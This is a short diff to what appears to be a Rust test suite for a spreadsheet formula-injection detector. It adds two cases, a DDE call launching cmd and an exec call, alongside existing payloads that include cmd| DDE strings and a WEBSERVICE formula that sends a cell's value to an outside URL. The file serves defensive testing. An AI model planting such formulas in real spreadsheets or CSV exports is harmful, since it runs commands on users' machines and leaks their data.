@@ -141,6 +141,7 @@ fn commands_are_malicious_however_they_are_quoted() {
         "\u{200b}=cmd|' /C calc'!A0",
         "=1+EXEC(\"calc\")",
         "=+-+cmd|'/C x'!A0",
+        "+DDE(\"cmd\";\"/C calc\";\"x\")",
         "\"=\ncmd|'/C x'!A0\"",
         "\"=1+\r\n cmd|'/C \"\"x'!A0\"",
         "\"=1+\"\"a\"\"&cmd|'/C x'!A0\"",
@@ -182,6 +183,7 @@ fn reaching_out_is_suspicious_and_arithmetic_is_active() {
         "\"=A1&\nWEBSERVICE(\"\"http://a.invalid?\"\"&A1)\"",
         "- IMAGE (\"http://x\")",
         "+calc|a!b",
+        "+exec(\"a\")",
         "-2+3+calc|a!b",
         "@A1*calc|a!b",
     ] {
